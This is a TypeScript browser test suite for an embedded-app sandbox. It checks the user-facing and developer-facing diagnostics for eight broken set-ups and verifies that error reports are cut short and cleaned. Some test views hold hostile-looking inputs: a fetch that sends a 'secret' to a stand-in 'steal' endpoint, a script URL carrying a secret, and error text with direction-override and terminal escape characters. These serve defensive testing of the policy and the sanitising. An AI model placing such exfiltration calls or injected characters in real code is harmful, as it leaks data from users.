// Eight set-ups that don't work, each produced for real: what a user sees, and what a developer receives.

import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { openAlteredSandbox } from "@vitrine/internal/altered-sandbox";
import { type HostStage, openHostPage, openHostStage } from "@vitrine/internal/host-stage";
import type { Page } from "playwright";
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from "vitest";
import { explainDiagnostic } from "../../src/diagnostic-messages.ts";
import type {} from "./pages/hosted.ts";
import { viewOf } from "./scene.ts";

vi.setConfig({ hookTimeout: 60_000, testTimeout: 30_000 });

const PROGRAM = new URL("./pages/hosted.ts", import.meta.url);
const GREETING = viewOf("greet();", "<p>the app</p>");
const ISOLATED = {
  "cross-origin-opener-policy": "same-origin",
  "cross-origin-embedder-policy": "require-corp",
};
// What only developers say.
const JARGON =
  /sandbox|host|origin|polic|header|csp|frame|iframe|server|script|error|console|http|localhost|[{}[\]]/i;

let stage: HostStage;
let page: Page;
const closers: (() => void)[] = [];
beforeAll(async () => {
  stage = await openHostStage();
});
afterAll(async () => {
  await stage.close();
  for (const close of closers) close();
});
afterEach(async () => {
  stage.headers.clear();
  await page?.close();
});

/** Another sandbox; `alter` is what stands between it and the browser. */
async function openSandbox(hosts: string[], alter?: (response: Response) => void): Promise<string> {
  const sandbox = await openAlteredSandbox(hosts, alter);
  closers.push(sandbox.close);
  return sandbox.entrance;
}

/** A port at which nothing listens. */
async function closedPort(): Promise<number> {
  const server = createServer().listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, "close");
  return port;
}

interface Setup {
  html?: string;
  /** Of the host's page; a value of `frame-src` replaces the usual policy. */
  headers?: Record<string, string>;
  frames?: string;
  entrance?: string;
  /** The address that the server's resources come from. */
  resources?: string;
}

/** Shows a view in this set-up, to a user or to a developer. */
async function show(setup: Setup, developer = false): Promise<void> {
  const { html = GREETING, headers = {}, entrance = stage.entrance, frames, resources } = setup;
  for (const [name, value] of Object.entries(headers)) stage.headers.set(name, value);
  const policy = `script-src 'self'; connect-src 'self' ${resources ?? ""}; frame-src ${frames ?? new URL(entrance).origin}`;
  stage.headers.set("content-security-policy", policy);
  page = await openHostPage(stage, { program: PROGRAM });
  await page.waitForFunction(() => "hosted" in window);
  await page.evaluate(
    ({ entrance, html, resources, developer }) => {
      const { hosted } = window;
      hosted.open({ entrance, developer, times: { document: 2500 } });
      const upstream = hosted.upstream("weather", [{ name: "show", html }]);
      if (resources) upstream.request = async () => (await fetch(resources)).json();
      const view = hosted.host.mount(hosted.place("one"), hosted.app("one", upstream, "show"));
      view.update({ input: {}, result: { content: [{ type: "text", text: "Rain in Oslo" }] } });
      const events: unknown[] = [];
      Object.assign(window, { events });
      hosted.host.onEvent((event) => event.type === "diagnostic" && events.push(event));
    },
    { entrance, html, resources, developer },
  );
}

/** What assistive technology gets of the page, in closed shadow roots too: a line for each role and name. */
async function readPage(): Promise<string[]> {
  const session = await stage.context.newCDPSession(page);
  const { nodes } = await session.send("Accessibility.getFullAXTree");
  await session.detach();
  return nodes
    .filter(({ ignored }) => !ignored)
    .map(({ role, name }) => `${role?.value}: ${name?.value ?? ""}`);
}

/** Everything that is drawn, folded details included. */
async function readDrawn(): Promise<string> {
  const session = await stage.context.newCDPSession(page);
  const { strings } = await session.send("DOMSnapshot.captureSnapshot", { computedStyles: [] });
  await session.detach();
  return strings.join("\n");
}

const reported = (code: string) => () =>
  page.evaluate(
    (code) => window.hosted.diagnostics.find((diagnostic) => diagnostic.code === code),
    code,
  );

interface Case {
  title: string;
  code: string;
  setup(): Setup | Promise<Setup>;
  sentence: string;
  button?: string;
  remedy: RegExp;
}

const CASES: Case[] = [
  {
    title: "the sandbox is down",
    code: "sandbox-unreachable",
    setup: async () => ({ entrance: `http://proxy.localhost:${await closedPort()}/` }),
    sentence: "This app can’t be loaded right now.",
    button: "Try again",
    remedy: /starts the sandbox.*vitrine sandbox verify/,
  },
  {
    title: "the page's policy lacks the sandbox",
    code: "frame-blocked",
    setup: () => ({ frames: "'self'" }),
    sentence: "This page can’t show apps.",
    remedy: /frame-src http:\/\/proxy\.localhost/,
  },
  {
    title: "the page is isolated and a proxy removes the sandbox's headers",
    code: "frame-isolated",
    setup: async () => ({
      headers: ISOLATED,
      entrance: await openSandbox([stage.hostOrigin], ({ headers }) => {
        headers.delete("cross-origin-embedder-policy");
        headers.delete("cross-origin-resource-policy");
      }),
    }),
    sentence: "This app can’t be shown on this page.",
    remedy: /proxy pass both headers on/,
  },
  {
    title: "the sandbox has other hosts",
    code: "host-refused",
    setup: async () => ({ entrance: await openSandbox(["http://other.localhost:3000"]) }),
    sentence: "Apps aren’t set up for this site yet.",
    remedy: /hosts: \["http:\/\/app\.localhost:\d+"\]/,
  },
  {
    title: "the view throws before it connects",
    code: "view-error",
    setup: () => ({ html: viewOf(`throw new Error("no \\u202edata\\n" + "x".repeat(9999));`) }),
    sentence: "This app ran into a problem while starting.",
    button: "Try again",
    remedy: /before connect\(\)/,
  },
  {
    title: "the view's policy blocks its script",
    code: "blocked",
    setup: () => ({ html: '<script src="https://cdn.example/app.js?secret=1"></script>' }),
    sentence: "This app can’t load everything it needs.",
    remedy: /resourceDomains: \["https:\/\/cdn\.example"\]/,
  },
  {
    title: "the MCP server is unreachable",
    code: "resource-failed",
    setup: async () => ({ resources: `http://127.0.0.1:${await closedPort()}/` }),
    sentence: "This app’s service isn’t responding.",
    button: "Try again",
    remedy: /check that the server is running and reachable/,
  },
  {
    title: "the view never connects",
    code: "document-timeout",
    setup: () => ({ html: "<p>the app</p>" }),
    sentence: "This app didn’t start.",
    button: "Try again",
    remedy: /calls connect\(\) when the page loads/,
  },
];

test("the eight set-ups have eight codes and eight sentences", () => {
  expect(new Set(CASES.map(({ code }) => code)).size).toBe(8);
  expect(new Set(CASES.map(({ sentence }) => sentence)).size).toBe(8);
});

describe.each(CASES)("if $title", ({ code, setup, sentence, button, remedy }) => {
  test("a user sees the result, one calm sentence and a button only if it helps", async () => {
    await show(await setup());
    await expect.poll(readPage, { timeout: 15_000 }).toContain(`StaticText: ${sentence}`);
    const lines = await readPage();
    expect(lines.some((line) => line.startsWith("article:"))).toBe(true);
    expect(lines).toContain("StaticText: Rain in Oslo");
    const buttons = lines.filter((line) => /^button: (?:Try|Start) again/.test(line));
    expect(buttons).toEqual(button ? [`button: ${button}`] : []);
    const texts = lines.filter((line) => line.startsWith("StaticText:")).join("\n");
    expect(texts).not.toMatch(JARGON);
    const events = await page.evaluate(() => (window as never as { events: object[] }).events);
    expect(events).toContainEqual(
      expect.objectContaining({ type: "diagnostic", level: "error", code, server: "weather" }),
    );
    expect(JSON.stringify(events)).not.toMatch(/secret|data/);
  });

  test("a developer also sees the remedy, and diagnostics have it", async () => {
    await show(await setup(), true);
    await expect.poll(reported(code), { timeout: 15_000 }).toBeDefined();
    await expect.poll(readPage).toContain(`StaticText: ${sentence}`);
    const diagnostics = await page.evaluate(() => window.hosted.diagnostics);
    const errors = diagnostics.filter(({ level }) => level === "error");
    expect(errors.map((diagnostic) => diagnostic.code)).toEqual([code]);
    await expect.poll(readPage).toContain("DisclosureTriangle: Details");
    const explained = await page.evaluate(([code]) => window.hosted.explain(code as never), [
      code,
    ] as const);
    expect(explained.remedy).toMatch(remedy);
    await expect.poll(readDrawn).toContain(explained.remedy);
  });
});

describe("what a view reports", () => {
  test("is cut and cleaned, and arrives long before the time limit", async () => {
    const html = viewOf(`throw new Error("no \\u202edata\\n\\x1b[31m" + "x".repeat(9999));`);
    await show({ html });
    await expect.poll(reported("view-error")).toBeDefined();
    const { detail = "", elapsed } = (await reported("view-error")()) ?? { elapsed: 1e9 };
    expect(detail).toContain("no \\u202edata\\n\\x1b[31mxxx");
    expect(detail.length).toBeLessThan(350);
    expect(elapsed).toBeLessThan(2500);
  });

  test("doesn't stop a view that connects, and a late view is still shown", async () => {
    await show({ html: viewOf(`setTimeout(greet, 1500); throw new Error("harmless");`) });
    await expect.poll(reported("view-error")).toBeDefined();
    await expect
      .poll(() => page.evaluate(() => window.hosted.host.views.get("one")?.stage))
      .toBe("shown");
    expect(await readPage()).not.toContain(
      "StaticText: This app ran into a problem while starting.",
    );
  });

  test("a blocked request and a later error are warnings, and the view goes on", async () => {
    const html = viewOf(`greet();
      setTimeout(() => {
        fetch("https://api.example/steal?secret=1").catch(() => {});
        setTimeout(() => { throw new Error("later") });
      }, 300);`);
    await show({ html });
    await expect.poll(reported("view-error")).toMatchObject({ level: "warning" });
    await expect
      .poll(reported("blocked"))
      .toMatchObject({ level: "warning", detail: "connect-src: https://api.example" });
    const blocked = await reported("blocked")();
    expect(explainDiagnostic(blocked as never).remedy).toContain(
      'connectDomains: ["https://api.example"]',
    );
    expect(await page.evaluate(() => window.hosted.host.views.get("one")?.stage)).toBe("shown");
    expect((await readPage()).filter((line) => line.startsWith("article:"))).toEqual([]);
  });

  test("is bounded in number", async () => {
    const html = viewOf(`greet();
      for (let at = 0; at < 500; at++) setTimeout(() => { throw new Error("again") });`);
    await show({ html });
    await expect.poll(reported("view-error")).toBeDefined();
    await page.waitForTimeout(500);
    const all = await page.evaluate(() => window.hosted.diagnostics);
    expect(all.filter(({ code }) => code === "view-error").length).toBeLessThanOrEqual(20);
  });
});
